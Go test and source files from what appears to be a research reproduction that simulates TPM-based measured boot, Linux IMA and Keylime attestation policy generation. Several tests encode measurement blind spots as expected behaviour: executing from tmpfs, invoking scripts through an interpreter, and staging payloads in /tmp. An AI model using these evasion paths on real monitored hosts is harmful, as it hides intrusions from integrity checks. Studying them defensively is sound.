	m := mirror.NewMirror(a)
	g := NewGenerator(m)
	pol, _, err := g.GenerateInitial(t0, kernel)
	if err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	for _, p := range base {
		for _, f := range p.ExecutableFiles() {
			installed := vfs.SyntheticDigest(p.ContentSeed(f), f.Size)
			if err := pol.Check(f.Path, installed); err != nil {
				t.Fatalf("installed %s fails generated policy: %v", f.Path, err)
			}
		}
	}
}

func TestBytesAddedScalesWithEntries(t *testing.T) {
	a, _ := newArchiveWithBase(t)
	g := NewGenerator(mirror.NewMirror(a))
	_, rep, err := g.GenerateInitial(t0, kernel)
	if err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	if rep.BytesAdded <= 0 {
		t.Fatalf("BytesAdded = %d, want > 0", rep.BytesAdded)
	}
	perEntry := rep.BytesAdded / int64(rep.EntriesAdded)
	if perEntry < 70 || perEntry > 200 {
		t.Fatalf("bytes per entry = %d, want ~64 hex + path", perEntry)
	}
}

func TestMeasurePackageDeterminism(t *testing.T) {
	a, _ := newArchiveWithBase(t)
	g1 := NewGenerator(mirror.NewMirror(a))
	g2 := NewGenerator(mirror.NewMirror(a))
	p1, _, err := g1.GenerateInitial(t0, kernel)
	if err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	p2, _, err := g2.GenerateInitial(t0, kernel)
	if err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	if fmt.Sprint(p1.Paths()) != fmt.Sprint(p2.Paths()) {
		t.Fatal("two generators disagree on paths")
	}
	st := policy.Diff(p1, p2)
	if st.OnlyInNew != 0 || st.OnlyInOld != 0 {
		t.Fatalf("diff between identical generations = %+v", st)
	}
}

func TestGeneratorSignedPolicy(t *testing.T) {
	signer, err := policy.NewSigner(cryptorand.Reader)
	if err != nil {
		t.Fatalf("NewSigner: %v", err)
	}
	a, _ := newArchiveWithBase(t)
	g := NewGenerator(mirror.NewMirror(a), WithSigner(signer))
	if _, err := g.SignedPolicy(); !errors.Is(err, ErrNoPolicy) {
		t.Fatalf("SignedPolicy before initial: %v, want ErrNoPolicy", err)
	}
	if _, _, err := g.GenerateInitial(t0, kernel); err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	env, err := g.SignedPolicy()
	if err != nil {
		t.Fatalf("SignedPolicy: %v", err)
	}
	pub, _ := signer.Public()
	ts, err := policy.NewTrustStore(pub)
	if err != nil {
		t.Fatalf("NewTrustStore: %v", err)
	}
	pol, err := ts.Verify(env)
	if err != nil {
		t.Fatalf("Verify: %v", err)
	}
	direct, err := g.Policy()
	if err != nil {
		t.Fatalf("Policy: %v", err)
	}
	if pol.Lines() != direct.Lines() {
		t.Fatalf("signed policy lines = %d, want %d", pol.Lines(), direct.Lines())
	}
}

func TestGeneratorSignedPolicyWithoutSigner(t *testing.T) {
	a, _ := newArchiveWithBase(t)
	g := NewGenerator(mirror.NewMirror(a))
	if _, _, err := g.GenerateInitial(t0, kernel); err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	if _, err := g.SignedPolicy(); !errors.Is(err, ErrNoSigner) {
		t.Fatalf("err = %v, want ErrNoSigner", err)
	}
}
