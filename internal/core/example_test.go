package core_test

import (
	"fmt"
	"time"

	"repro/internal/core"
	"repro/internal/mirror"
	"repro/internal/vfs"
)

// Example walks the dynamic policy generation cycle: an initial policy from
// the mirrored release, an incremental update when upstream publishes, and
// the post-update dedup.
func Example() {
	start := time.Date(2024, 2, 26, 5, 0, 0, 0, time.UTC)
	archive := mirror.NewArchive()
	_, _ = archive.Publish(start.Add(-24*time.Hour), mirror.Package{
		Name: "bash", Version: "5.1-6", Suite: mirror.SuiteMain, Priority: mirror.PriorityRequired,
		Files: []mirror.PackageFile{{Path: "/bin/bash", Mode: vfs.ModeExecutable, Size: 1024}},
	})

	gen := core.NewGenerator(mirror.NewMirror(archive), core.WithExcludes([]string{"/tmp/.*"}))
	pol, rep, err := gen.GenerateInitial(start, "5.15.0-100-generic")
	if err != nil {
		panic(err)
	}
	fmt.Printf("initial: %d entries from %d packages\n", pol.Lines(), rep.PackagesChanged)

	// Day 2: upstream ships a bash security update.
	_, _ = archive.Publish(start.Add(20*time.Hour), mirror.Package{
		Name: "bash", Version: "5.1-7", Suite: mirror.SuiteSecurity, Priority: mirror.PriorityRequired,
		Files: []mirror.PackageFile{{Path: "/bin/bash", Mode: vfs.ModeExecutable, Size: 1024}},
	})
	pol, rep, err = gen.Update(start.Add(24*time.Hour), "5.15.0-100-generic")
	if err != nil {
		panic(err)
	}
	fmt.Printf("update: +%d entries (%d packages changed), policy now %d lines\n",
		rep.EntriesAdded, rep.PackagesChanged, pol.Lines())

	removed, _ := gen.DedupAfterUpdate()
	fmt.Printf("dedup: %d stale digests dropped\n", removed)
	// Output:
	// initial: 1 entries from 1 packages
	// update: +1 entries (1 packages changed), policy now 2 lines
	// dedup: 1 stale digests dropped
}
