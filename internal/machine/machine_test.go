package machine

import (
	"crypto/rand"
	"errors"
	"testing"
	"time"

	"repro/internal/ima"
	"repro/internal/mirror"
	"repro/internal/tpm"
	"repro/internal/vfs"
)

// testCA is shared across tests; creating a CA is cheap (ECDSA) but there
// is no reason to repeat it.
func newTestMachine(t *testing.T, opts ...Option) *Machine {
	t.Helper()
	ca, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		t.Fatalf("NewManufacturerCA: %v", err)
	}
	opts = append([]Option{WithTPMOptions(tpm.WithEKBits(1024))}, opts...)
	m, err := New(ca, opts...)
	if err != nil {
		t.Fatalf("New machine: %v", err)
	}
	return m
}

// logPaths returns the set of paths in the current IMA log.
func logPaths(m *Machine) map[string]int {
	out := map[string]int{}
	for _, e := range m.IMA().Entries(0) {
		out[e.Path]++
	}
	return out
}

func TestNewMachineMountLayout(t *testing.T) {
	m := newTestMachine(t)
	mounts := m.FS().MountPoints()
	want := map[string]vfs.FSType{
		"/":        vfs.FSTypeExt4,
		"/proc":    vfs.FSTypeProcfs,
		"/dev/shm": vfs.FSTypeTmpfs,
	}
	for point, typ := range want {
		if got := mounts[point]; got != typ {
			t.Fatalf("mount %s = %v, want %v", point, got, typ)
		}
	}
	// Ubuntu keeps /tmp on the root filesystem; the simulation must too,
	// or the paper's P1/P4 interplay cannot be reproduced.
	if _, mounted := mounts["/tmp"]; mounted {
		t.Fatal("/tmp must not be a separate mount (Ubuntu layout)")
	}
	info, err := m.FS().Stat("/tmp/probe")
	_ = info
	if err == nil {
		t.Fatal("unexpected /tmp/probe")
	}
	if err := m.WriteFile("/tmp/probe", []byte("x"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile /tmp: %v", err)
	}
	pi, err := m.FS().Stat("/tmp/probe")
	if err != nil {
		t.Fatalf("Stat: %v", err)
	}
	if pi.FSType != vfs.FSTypeExt4 {
		t.Fatalf("/tmp fs type = %v, want ext4", pi.FSType)
	}
}

func TestTmpStagingMoveKeepsInode_P4Precondition(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/tmp/payload", []byte("evil"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	before, _ := m.FS().Stat("/tmp/payload")
	if err := m.FS().Rename("/tmp/payload", "/usr/bin/payload"); err != nil {
		t.Fatalf("Rename: %v", err)
	}
	after, _ := m.FS().Stat("/usr/bin/payload")
	if before.FSID != after.FSID || before.Inode != after.Inode {
		t.Fatal("/tmp -> /usr move must preserve inode (same filesystem)")
	}
}

func TestExecBinaryMeasured(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/usr/bin/tool", []byte("\x7fELF-binary"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.Exec("/usr/bin/tool"); err != nil {
		t.Fatalf("Exec: %v", err)
	}
	if logPaths(m)["/usr/bin/tool"] != 1 {
		t.Fatalf("log = %v, want /usr/bin/tool measured once", logPaths(m))
	}
}

func TestExecNonExecutableRejected(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/etc/conf", []byte("data"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.Exec("/etc/conf"); !errors.Is(err, ErrNotExecutable) {
		t.Fatalf("Exec err = %v, want ErrNotExecutable", err)
	}
}

func TestExecMissingFile(t *testing.T) {
	m := newTestMachine(t)
	if err := m.Exec("/usr/bin/ghost"); !errors.Is(err, vfs.ErrNotExist) {
		t.Fatalf("Exec err = %v, want ErrNotExist", err)
	}
}

func TestExecShebangScriptMeasuresScriptAndInterpreter_P5(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/usr/bin/python3", []byte("\x7fELF-python"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	script := []byte("#!/usr/bin/python3\nprint('hi')\n")
	if err := m.WriteFile("/opt/task.py", script, vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.Exec("/opt/task.py"); err != nil {
		t.Fatalf("Exec: %v", err)
	}
	paths := logPaths(m)
	if paths["/opt/task.py"] != 1 {
		t.Fatal("direct shebang execution must measure the script")
	}
	if paths["/usr/bin/python3"] != 1 {
		t.Fatal("shebang execution must measure the interpreter")
	}
}

func TestExecInterpreterMeasuresOnlyInterpreter_P5(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/usr/bin/python3", []byte("\x7fELF-python"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	// Script without exec bit — typical "python3 exploit.py" usage.
	if err := m.WriteFile("/opt/exploit.py", []byte("import os\n"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.ExecInterpreter("/usr/bin/python3", "/opt/exploit.py"); err != nil {
		t.Fatalf("ExecInterpreter: %v", err)
	}
	paths := logPaths(m)
	if paths["/usr/bin/python3"] != 1 {
		t.Fatal("interpreter binary not measured")
	}
	if paths["/opt/exploit.py"] != 0 {
		t.Fatal("script measured despite interpreter invocation; P5 requires it to be invisible")
	}
}

func TestExecInterpreterMissingInterpreter(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/opt/x.py", []byte("pass"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.ExecInterpreter("/usr/bin/python3", "/opt/x.py"); !errors.Is(err, ErrNoInterpreter) {
		t.Fatalf("err = %v, want ErrNoInterpreter", err)
	}
}

func TestExecShebangMissingInterpreter(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/opt/t.sh", []byte("#!/bin/zsh\necho\n"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.Exec("/opt/t.sh"); !errors.Is(err, ErrNoInterpreter) {
		t.Fatalf("err = %v, want ErrNoInterpreter", err)
	}
}

func TestSnapExecutionRecordsTruncatedPath(t *testing.T) {
	m := newTestMachine(t)
	files := []mirror.UnpackedFile{
		{Path: "/usr/bin/jq", Mode: vfs.ModeExecutable, Content: []byte("\x7fELF-jq")},
	}
	if err := m.InstallSnap("core20", "1234", files); err != nil {
		t.Fatalf("InstallSnap: %v", err)
	}
	if err := m.Exec("/snap/core20/1234/usr/bin/jq"); err != nil {
		t.Fatalf("Exec: %v", err)
	}
	paths := logPaths(m)
	if paths["/usr/bin/jq"] != 1 {
		t.Fatalf("log = %v, want truncated path /usr/bin/jq", paths)
	}
	if paths["/snap/core20/1234/usr/bin/jq"] != 0 {
		t.Fatal("full snap path leaked into measurement log")
	}
}

func TestMmapExecMeasuresSharedObject(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/usr/lib/evil.so", []byte("\x7fELF-so"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.MmapExec("/usr/lib/evil.so"); err != nil {
		t.Fatalf("MmapExec: %v", err)
	}
	if logPaths(m)["/usr/lib/evil.so"] != 1 {
		t.Fatal("mmap'd object not measured")
	}
}

func TestLoadModuleMeasured(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/usr/lib/modules/5.15.0-100-generic/evil.ko", []byte("module"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.LoadModule("/usr/lib/modules/5.15.0-100-generic/evil.ko"); err != nil {
		t.Fatalf("LoadModule: %v", err)
	}
	if logPaths(m)["/usr/lib/modules/5.15.0-100-generic/evil.ko"] != 1 {
		t.Fatal("module load not measured")
	}
}

func TestOpenReadNotMeasuredByDefaultPolicy(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/etc/passwd", []byte("root:x:0:0"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.OpenRead("/etc/passwd"); err != nil {
		t.Fatalf("OpenRead: %v", err)
	}
	if logPaths(m)["/etc/passwd"] != 0 {
		t.Fatal("plain read measured under default policy")
	}
}

func TestExecFromTmpfsNotMeasured_P3(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/dev/shm/payload", []byte("evil"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.Exec("/dev/shm/payload"); err != nil {
		t.Fatalf("Exec: %v", err)
	}
	if logPaths(m)["/dev/shm/payload"] != 0 {
		t.Fatal("tmpfs execution measured under stock policy; P3 expects blind spot")
	}
}

func TestInstallPackageWritesDigestFiles(t *testing.T) {
	m := newTestMachine(t)
	p := mirror.Package{
		Name: "bash", Version: "5.1-6", Suite: mirror.SuiteMain, Priority: mirror.PriorityRequired,
		Files: []mirror.PackageFile{
			{Path: "/bin/bash", Mode: vfs.ModeExecutable, Size: 1234},
			{Path: "/usr/share/doc/bash/README", Mode: vfs.ModeRegular, Size: 10},
		},
	}
	if err := m.InstallPackage(p); err != nil {
		t.Fatalf("InstallPackage: %v", err)
	}
	info, err := m.FS().Stat("/bin/bash")
	if err != nil {
		t.Fatalf("Stat: %v", err)
	}
	want := vfs.SyntheticDigest(p.ContentSeed(p.Files[0]), 1234)
	if info.Digest != want {
		t.Fatal("installed digest does not match package seed digest")
	}
	if v, err := m.InstalledVersion("bash"); err != nil || v != "5.1-6" {
		t.Fatalf("InstalledVersion = %q, %v", v, err)
	}
	if _, err := m.InstalledVersion("curl"); !errors.Is(err, ErrNotInstalled) {
		t.Fatalf("err = %v, want ErrNotInstalled", err)
	}
}

func TestUpgradeChangesDigestAndTriggersRemeasure(t *testing.T) {
	m := newTestMachine(t)
	v1 := mirror.Package{Name: "curl", Version: "7.81-1", Suite: mirror.SuiteMain, Priority: mirror.PriorityOptional,
		Files: []mirror.PackageFile{{Path: "/usr/bin/curl", Mode: vfs.ModeExecutable, Size: 100}}}
	if err := m.InstallPackage(v1); err != nil {
		t.Fatalf("install v1: %v", err)
	}
	if err := m.Exec("/usr/bin/curl"); err != nil {
		t.Fatalf("Exec: %v", err)
	}
	v2 := v1
	v2.Version = "7.81-2"
	if err := m.InstallPackage(v2); err != nil {
		t.Fatalf("install v2: %v", err)
	}
	if err := m.Exec("/usr/bin/curl"); err != nil {
		t.Fatalf("Exec after upgrade: %v", err)
	}
	if got := logPaths(m)["/usr/bin/curl"]; got != 2 {
		t.Fatalf("/usr/bin/curl measured %d times, want 2 (before and after upgrade)", got)
	}
}

func TestKernelPackagePendingUntilReboot(t *testing.T) {
	m := newTestMachine(t, WithKernel("5.15.0-100-generic"))
	k := mirror.Package{
		Name: "linux-image-5.15.0-101-generic", Version: "5.15.0-101.111",
		Suite: mirror.SuiteUpdates, Priority: mirror.PriorityOptional,
		Files: []mirror.PackageFile{
			{Path: "/boot/vmlinuz-5.15.0-101-generic", Mode: vfs.ModeExecutable, Size: 5000},
			{Path: "/usr/lib/modules/5.15.0-101-generic/kernel/fs/ext4.ko", Mode: vfs.ModeRegular, Size: 800},
		},
	}
	if err := m.InstallPackage(k); err != nil {
		t.Fatalf("InstallPackage: %v", err)
	}
	if got := m.RunningKernel(); got != "5.15.0-100-generic" {
		t.Fatalf("RunningKernel = %q; new kernel must not run before reboot", got)
	}
	if got := m.PendingKernel(); got != "5.15.0-101-generic" {
		t.Fatalf("PendingKernel = %q", got)
	}
	if err := m.Reboot(); err != nil {
		t.Fatalf("Reboot: %v", err)
	}
	if got := m.RunningKernel(); got != "5.15.0-101-generic" {
		t.Fatalf("RunningKernel after reboot = %q", got)
	}
	if got := m.PendingKernel(); got != "" {
		t.Fatalf("PendingKernel after reboot = %q, want empty", got)
	}
}

func TestRebootWipesVolatileAndResetsIMA(t *testing.T) {
	m := newTestMachine(t)
	if err := m.WriteFile("/tmp/staged", []byte("x"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.WriteFile("/usr/bin/tool", []byte("y"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.Exec("/usr/bin/tool"); err != nil {
		t.Fatalf("Exec: %v", err)
	}
	if err := m.Reboot(); err != nil {
		t.Fatalf("Reboot: %v", err)
	}
	if m.FS().Exists("/tmp/staged") {
		t.Fatal("tmpfs survived reboot")
	}
	if !m.FS().Exists("/usr/bin/tool") {
		t.Fatal("persistent file lost at reboot")
	}
	entries := m.IMA().Entries(0)
	if len(entries) != 1 || entries[0].Path != ima.BootAggregatePath {
		t.Fatalf("IMA log after reboot = %v, want boot aggregate only", entries)
	}
}

func TestShebangParsing(t *testing.T) {
	cases := []struct {
		content string
		want    string
		ok      bool
	}{
		{"#!/bin/sh\necho", "/bin/sh", true},
		{"#!/usr/bin/env python3\n", "/usr/bin/env", true},
		{"#! /bin/bash -e\n", "/bin/bash", true},
		{"\x7fELF...", "", false},
		{"#!\n", "", false},
		{"", "", false},
	}
	for _, c := range cases {
		got, ok := shebangInterpreter([]byte(c.content))
		if got != c.want || ok != c.ok {
			t.Fatalf("shebangInterpreter(%q) = %q, %v; want %q, %v", c.content, got, ok, c.want, c.ok)
		}
	}
}

func TestVisiblePathSnapTruncation(t *testing.T) {
	cases := map[string]string{
		"/snap/core20/1234/usr/bin/python3": "/usr/bin/python3",
		"/snap/firefox/567/firefox":         "/firefox",
		"/usr/bin/python3":                  "/usr/bin/python3",
		"/snap":                             "/snap",
		"/snap/core20":                      "/snap/core20",
	}
	for in, want := range cases {
		if got := visiblePath(in); got != want {
			t.Fatalf("visiblePath(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestScriptExecControlMeasuresScript(t *testing.T) {
	m := newTestMachine(t, WithIMAOptions(ima.WithPolicy(ima.SECPolicy())))
	if err := m.WriteFile("/usr/bin/python3", []byte("\x7fELF-python"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.WriteFile("/opt/exploit.py", []byte("import os"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if m.ScriptExecControlEnabled("/usr/bin/python3") {
		t.Fatal("SEC enabled before opt-in")
	}
	// Before opt-in: interpreter invocation hides the script (P5).
	if err := m.ExecInterpreter("/usr/bin/python3", "/opt/exploit.py"); err != nil {
		t.Fatalf("ExecInterpreter: %v", err)
	}
	if logPaths(m)["/opt/exploit.py"] != 0 {
		t.Fatal("script measured before SEC opt-in")
	}
	// After opt-in: the script hits SCRIPT_CHECK and is measured.
	if err := m.EnableScriptExecControl("/usr/bin/python3"); err != nil {
		t.Fatalf("EnableScriptExecControl: %v", err)
	}
	if err := m.ExecInterpreter("/usr/bin/python3", "/opt/exploit.py"); err != nil {
		t.Fatalf("ExecInterpreter: %v", err)
	}
	if logPaths(m)["/opt/exploit.py"] != 1 {
		t.Fatalf("log = %v; SEC interpreter invocation must measure the script", logPaths(m))
	}
}

func TestScriptExecControlNeedsSECPolicyRule(t *testing.T) {
	// Opting in at the interpreter is not enough: the IMA policy must
	// measure SCRIPT_CHECK (default policy has no such rule).
	m := newTestMachine(t)
	if err := m.WriteFile("/usr/bin/python3", []byte("\x7fELF-python"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.WriteFile("/opt/x.py", []byte("pass"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := m.EnableScriptExecControl("/usr/bin/python3"); err != nil {
		t.Fatalf("EnableScriptExecControl: %v", err)
	}
	if err := m.ExecInterpreter("/usr/bin/python3", "/opt/x.py"); err != nil {
		t.Fatalf("ExecInterpreter: %v", err)
	}
	if logPaths(m)["/opt/x.py"] != 0 {
		t.Fatal("script measured without a SCRIPT_CHECK policy rule")
	}
}

func TestEnableScriptExecControlMissingInterpreter(t *testing.T) {
	m := newTestMachine(t)
	if err := m.EnableScriptExecControl("/usr/bin/ruby"); !errors.Is(err, ErrNoInterpreter) {
		t.Fatalf("err = %v, want ErrNoInterpreter", err)
	}
}

func TestInstallPackageSetsVendorSignatureXattr(t *testing.T) {
	m := newTestMachine(t)
	p := mirror.Package{
		Name: "curl", Version: "7.81", Suite: mirror.SuiteMain, Priority: mirror.PriorityOptional,
		Files: []mirror.PackageFile{
			{Path: "/usr/bin/curl", Mode: vfs.ModeExecutable, Size: 128, Signature: "abcd1234"},
		},
	}
	if err := m.InstallPackage(p); err != nil {
		t.Fatalf("InstallPackage: %v", err)
	}
	sig, ok := m.FS().Xattr("/usr/bin/curl", vfs.IMAXattr)
	if !ok || sig != "abcd1234" {
		t.Fatalf("security.ima = %q, %v", sig, ok)
	}
	// Execution produces an ima-sig entry carrying the signature.
	if err := m.Exec("/usr/bin/curl"); err != nil {
		t.Fatalf("Exec: %v", err)
	}
	found := false
	for _, e := range m.IMA().Entries(0) {
		if e.Path == "/usr/bin/curl" {
			found = true
			if e.Signature != "abcd1234" || e.Template() != "ima-sig" {
				t.Fatalf("entry = %+v, want ima-sig with signature", e)
			}
		}
	}
	if !found {
		t.Fatal("no measurement for signed binary")
	}
}

func TestBootLogMatchesRunningKernel(t *testing.T) {
	m := newTestMachine(t, WithKernel("5.15.0-100-generic"))
	log := m.BootLog()
	if len(log) != 4 {
		t.Fatalf("boot log has %d events, want 4", len(log))
	}
	found := false
	for _, e := range log {
		if e.Description == "kernel 5.15.0-100-generic" {
			found = true
		}
	}
	if !found {
		t.Fatalf("boot log lacks running kernel event: %+v", log)
	}
	// PCR 0 and 4 hold the boot chain.
	for _, pcr := range []int{0, 4} {
		v, err := m.TPM().PCRs().Read(pcr)
		if err != nil {
			t.Fatalf("Read PCR %d: %v", pcr, err)
		}
		if v == (tpm.Digest{}) {
			t.Fatalf("PCR %d empty after boot", pcr)
		}
	}
	// Replaying the boot log reproduces the PCR values.
	replayed := log.Replay()
	for pcr, want := range replayed {
		got, _ := m.TPM().PCRs().Read(pcr)
		if got != want {
			t.Fatalf("PCR %d replay mismatch", pcr)
		}
	}
}

func TestRebootIntoNewKernelChangesBootPCR(t *testing.T) {
	m := newTestMachine(t)
	before, _ := m.TPM().PCRs().Read(4)
	k := mirror.Package{
		Name: "linux-image-6.1.0-1-generic", Version: "6.1.0-1.1",
		Suite: mirror.SuiteUpdates, Priority: mirror.PriorityOptional,
		Files: []mirror.PackageFile{{Path: "/boot/vmlinuz-6.1.0-1-generic", Mode: vfs.ModeExecutable, Size: 100}},
	}
	if err := m.InstallPackage(k); err != nil {
		t.Fatalf("InstallPackage: %v", err)
	}
	if err := m.Reboot(); err != nil {
		t.Fatalf("Reboot: %v", err)
	}
	after, _ := m.TPM().PCRs().Read(4)
	if before == after {
		t.Fatal("PCR 4 unchanged after booting a different kernel")
	}
}

func TestInstallReleaseInstallsEverything(t *testing.T) {
	m := newTestMachine(t)
	a := mirror.NewArchive()
	base := []mirror.Package{
		{Name: "a", Version: "1", Suite: mirror.SuiteMain, Priority: mirror.PriorityOptional,
			Files: []mirror.PackageFile{{Path: "/usr/bin/a", Mode: vfs.ModeExecutable, Size: 8}}},
		{Name: "b", Version: "1", Suite: mirror.SuiteMain, Priority: mirror.PriorityOptional,
			Files: []mirror.PackageFile{{Path: "/usr/bin/b", Mode: vfs.ModeExecutable, Size: 8}}},
	}
	if _, err := a.Publish(timeNow(), base...); err != nil {
		t.Fatalf("Publish: %v", err)
	}
	mir := mirror.NewMirror(a)
	mir.Sync(timeNow())
	if err := m.InstallRelease(mir.Release()); err != nil {
		t.Fatalf("InstallRelease: %v", err)
	}
	if m.InstalledCount() != 2 {
		t.Fatalf("InstalledCount = %d, want 2", m.InstalledCount())
	}
	for _, p := range []string{"/usr/bin/a", "/usr/bin/b"} {
		if !m.FS().Exists(p) {
			t.Fatalf("%s missing after InstallRelease", p)
		}
	}
}

func timeNow() time.Time { return time.Date(2024, 2, 26, 0, 0, 0, 0, time.UTC) }
