// Package machine models the attested prover node: a virtual filesystem,
// a simulated TPM, the IMA subsystem, and the execution model connecting
// them. The execution model carries the behaviours the paper's false
// negatives exploit:
//
//   - Exec of a shebang script measures the script file (and its
//     interpreter); ExecInterpreter("python3", script) measures only the
//     interpreter binary — problem P5;
//   - binaries executed inside a SNAP sandbox are measured under their
//     truncated in-namespace path, which is the paper's SNAP false-positive
//     cause;
//   - tmpfs and friends are wiped at reboot, and the IMA log/PCRs reset,
//     which is why several attacks are only "detectable upon reboot".
//
// Package installation writes digest-only files (contents derived from the
// same deterministic seeds the mirror packs), keeping paper-scale images
// (~300k executables) cheap.
package machine

import (
	"bytes"
	"errors"
	"fmt"
	"regexp"
	"strings"
	"sync"

	"repro/internal/ima"
	"repro/internal/measuredboot"
	"repro/internal/mirror"
	"repro/internal/tpm"
	"repro/internal/vfs"
)

// Sentinel errors.
var (
	ErrNotExecutable = errors.New("machine: file is not executable")
	ErrNoInterpreter = errors.New("machine: interpreter not installed")
	ErrNotInstalled  = errors.New("machine: package not installed")
)

// snapPathRE matches /snap/<name>/<revision>/<inner-path>.
var snapPathRE = regexp.MustCompile(`^/snap/[^/]+/[^/]+(/.+)$`)

// Option configures machine construction.
type Option interface{ apply(*options) }

type options struct {
	hostname      string
	uuid          string
	imaOpts       []ima.Option
	tpmOpts       []tpm.Option
	device        *tpm.TPM
	kernelVer     string
	firmwareVer   string
	bootloaderVer string
	cmdline       string
}

type hostnameOption string

func (o hostnameOption) apply(opts *options) { opts.hostname = string(o) }

// WithHostname sets the machine hostname.
func WithHostname(h string) Option { return hostnameOption(h) }

type uuidOption string

func (o uuidOption) apply(opts *options) { opts.uuid = string(o) }

// WithUUID sets the agent UUID used for Keylime enrollment.
func WithUUID(u string) Option { return uuidOption(u) }

type imaOptsOption []ima.Option

func (o imaOptsOption) apply(opts *options) { opts.imaOpts = append(opts.imaOpts, o...) }

// WithIMAOptions forwards options to the machine's IMA subsystem.
func WithIMAOptions(io ...ima.Option) Option { return imaOptsOption(io) }

type tpmOptsOption []tpm.Option

func (o tpmOptsOption) apply(opts *options) { opts.tpmOpts = append(opts.tpmOpts, o...) }

// WithTPMOptions forwards options to the machine's TPM.
func WithTPMOptions(to ...tpm.Option) Option { return tpmOptsOption(to) }

type kernelOption string

func (o kernelOption) apply(opts *options) { opts.kernelVer = string(o) }

// WithKernel sets the initially running kernel version.
func WithKernel(v string) Option { return kernelOption(v) }

type firmwareOption string

func (o firmwareOption) apply(opts *options) { opts.firmwareVer = string(o) }

// WithFirmware sets the platform firmware version measured into PCR 0.
func WithFirmware(v string) Option { return firmwareOption(v) }

type bootloaderOption string

func (o bootloaderOption) apply(opts *options) { opts.bootloaderVer = string(o) }

// WithBootloader sets the bootloader version measured into PCR 4.
func WithBootloader(v string) Option { return bootloaderOption(v) }

type deviceOption struct{ dev *tpm.TPM }

func (o deviceOption) apply(opts *options) { opts.device = o.dev }

// WithTPMDevice attaches an existing TPM instead of manufacturing one —
// how a virtual machine uses the vTPM its host provisioned for it.
func WithTPMDevice(dev *tpm.TPM) Option { return deviceOption{dev: dev} }

// Machine is one simulated prover node.
type Machine struct {
	mu sync.Mutex

	fs  *vfs.VFS
	dev *tpm.TPM
	ms  *ima.IMA

	hostname string
	uuid     string

	installed     map[string]string // package name -> version
	runningKernel string
	pendingKernel string
	// secInterpreters holds interpreters that opted into script execution
	// control: they open scripts with the executable flag, so IMA's
	// SCRIPT_CHECK hook sees them (the paper's forward-looking P5 fix).
	secInterpreters map[string]bool

	// Measured boot identity (PCR 0/4 chain).
	firmwareVer   string
	bootloaderVer string
	cmdline       string
	bootLog       measuredboot.Log
}

// New builds a machine with the standard Linux mount layout and a TPM
// manufactured by the given CA.
func New(ca *tpm.ManufacturerCA, opts ...Option) (*Machine, error) {
	o := options{
		hostname:      "node-1",
		uuid:          "d432fbb3-d2f1-4a97-9ef7-75bd81c00000",
		kernelVer:     "5.15.0-100-generic",
		firmwareVer:   "edk2-2023.11",
		bootloaderVer: "grub-2.06",
		cmdline:       "root=/dev/vda1 ro ima_policy=tcb",
	}
	for _, opt := range opts {
		opt.apply(&o)
	}
	dev := o.device
	if dev == nil {
		var err error
		dev, err = tpm.New(ca, o.tpmOpts...)
		if err != nil {
			return nil, fmt.Errorf("machine: creating TPM: %w", err)
		}
	}
	ms, err := ima.New(dev.PCRs(), o.imaOpts...)
	if err != nil {
		return nil, fmt.Errorf("machine: creating IMA: %w", err)
	}
	fs := vfs.New()
	// NOTE: /tmp deliberately stays on the root ext4 filesystem, matching
	// Ubuntu 22.04. IMA therefore measures executions in /tmp, while the
	// Keylime policy excludes the directory — the combination behind the
	// paper's P1 and P4 findings.
	mounts := map[string]vfs.FSType{
		"/run":                 vfs.FSTypeRamfs,
		"/dev":                 vfs.FSTypeDevtmpfs,
		"/dev/shm":             vfs.FSTypeTmpfs,
		"/proc":                vfs.FSTypeProcfs,
		"/sys":                 vfs.FSTypeSysfs,
		"/sys/kernel/debug":    vfs.FSTypeDebugfs,
